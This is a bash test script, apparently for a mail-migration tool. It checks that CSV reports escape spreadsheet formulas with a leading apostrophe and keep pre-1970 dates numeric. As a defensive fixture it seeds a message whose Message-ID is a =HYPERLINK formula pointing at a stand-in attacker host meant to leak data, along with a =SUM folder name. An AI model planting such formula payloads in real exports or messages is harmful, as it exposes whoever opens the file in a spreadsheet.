#!/usr/bin/env bash
# t-report-guard.sh - the CSV files mailstage writes carry no formula a
# spreadsheet would run: a sender's Message-ID =HYPERLINK(...) and a folder
# named =SUM(1+1) reach `copy --report`, and the batch's errors.csv, as text
# with a leading ' (the OWASP rule); numbers stay numbers (the date of a
# Maildir message from 1969 is a negative number, written as one); and a
# later `batch run`
# that reads errors.csv back (the batch's memory) gets the same values, so
# the file does not change from one run to the next.
set -euo pipefail
. "$(dirname "$0")/lib/harness.sh"
. "$(dirname "$0")/lib/batch.sh"

batch_test_init 300
batch_servers
cd "$T"

FOLDER='=SUM(1+1)'
MSGID='=HYPERLINK("http://evil.example/?leak","open me")'
{
	printf 'From: outsider@evil.example\r\nTo: alice@example.org\r\n'
	printf 'Subject: big\r\nMessage-ID: %s\r\n\r\n' "$MSGID"
	for _ in $(seq 200); do printf '%s\r\n' "$(printf 'x%.0s' $(seq 70))"; done
} >big.eml
seed_message src alice "$FOLDER" big.eml >/dev/null
batch_seed alice 3 0 >/dev/null

# check_cells FILE COLUMN WANT: no cell of FILE starts a formula; COLUMN of
# the row whose COLUMN mentions SUM or HYPERLINK is WANT.
check_cells() {
	"$HARNESS_PYTHON" - "$@" <<'PY'
import csv, sys
path, col, want = sys.argv[1:4]
bad, got = [], []
with open(path, newline="") as f:
    for row in csv.DictReader(f):
        for k, v in row.items():
            if v and v[0] in "=+-@\t\r" and not (k == "internaldate" and v.lstrip("-").isdigit()):
                bad.append("%s=%r" % (k, v))
        if "SUM" in row[col] or "HYPERLINK" in row[col]:
            got.append(row[col])
if bad:
    print("formula cells: " + " ".join(bad))
elif got != [want]:
    print("%s: %r, not [%r]" % (col, got, want))
else:
    print("ok")
PY
}

# ---- copy --report
rc=0
"$MAILSTAGE" copy --tls none --progress none --no-state --max-size 10K \
	--source-password-file "$(pass_file src alice)" --dest-password-file "$(pass_file dst bob)" \
	--report "$T/copy.csv" "imap://alice@127.0.0.1:$SRC_PORT/" "imap://bob@127.0.0.1:$DST_PORT/" \
	>"$T/copy.log" 2>&1 || rc=$?
assert_eq "$rc" 0 "copy with --max-size exits 0 (a rule, not an error)"
assert_eq "$(check_cells "$T/copy.csv" message_id "'$MSGID")" ok \
	"copy --report: the Message-ID is text with a leading ', no cell starts a formula"
assert_eq "$(check_cells "$T/copy.csv" folder "'$FOLDER")" ok "copy --report: so is the folder name"

# a Maildir message of 1969 (its mtime is its date: Dovecot keeps none before 1970)
mkdir -p "$T/md/cur" "$T/md/new" "$T/md/tmp"
cp big.eml "$T/md/cur/1.old:2,S"
touch -d '1969-01-01 00:00:00 UTC' "$T/md/cur/1.old:2,S"
"$MAILSTAGE" copy --dest-tls none --progress none --no-state --max-size 10K \
	--dest-password-file "$(pass_file dst bob)" --report "$T/old.csv" \
	"$T/md" "imap://bob@127.0.0.1:$DST_PORT/" >>"$T/copy.log" 2>&1 || true
date=$("$HARNESS_PYTHON" -c 'import csv, sys
print(" ".join(r["internaldate"] for r in csv.DictReader(open(sys.argv[1], newline=""))
               if r["reason"] == "over-size-limit"))' "$T/old.csv")
assert_eq "$date" -31536000 "copy --report: a date of 1969 stays a number (-31536000)"

# ---- batch errors.csv, then a run that reads it back
{
	echo 'EmailAddress,UserName,Password'
	echo "alice@$BATCH_DOMAIN,alice,$(batch_pw alice)"
} >users.csv
chmod 600 users.csv
rc=0
batch_run users.csv --dir "$T/b" --max-size 10K || rc=$?
assert_eq "$rc" 0 "batch run exits 0"
assert_eq "$(check_cells "$T/b/errors.csv" Folder "'$FOLDER")" ok \
	"errors.csv: the folder name is text with a leading ', no cell starts a formula"
cp "$T/b/errors.csv" "$T/errors-1.csv"
rc=0
batch_run users.csv --dir "$T/b" --max-size 10K || rc=$?
assert_eq "$rc" 0 "a second batch run exits 0 (nothing left to do)"
cmp -s "$T/errors-1.csv" "$T/b/errors.csv" && pass "errors.csv read back and written again: unchanged" ||
	fail "errors.csv changed when read back: $(diff "$T/errors-1.csv" "$T/b/errors.csv")"

harness_done
